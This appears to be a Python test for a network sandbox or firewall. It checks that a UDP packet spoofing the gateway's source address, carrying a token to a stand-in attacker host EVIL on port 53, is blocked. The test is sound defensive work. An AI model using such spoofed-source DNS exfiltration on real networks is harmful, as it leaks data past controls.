"""
how: in the gateway's name
expect: shut
unseen: a router knows its own address
"""

from frames import by, gateway, ipv4, udp_part
from land import EVIL, GATEWAY


def attempt(token):
    return by(gateway(), ipv4(EVIL, 17, udp_part(EVIL, 53, token, source=GATEWAY), source=GATEWAY))
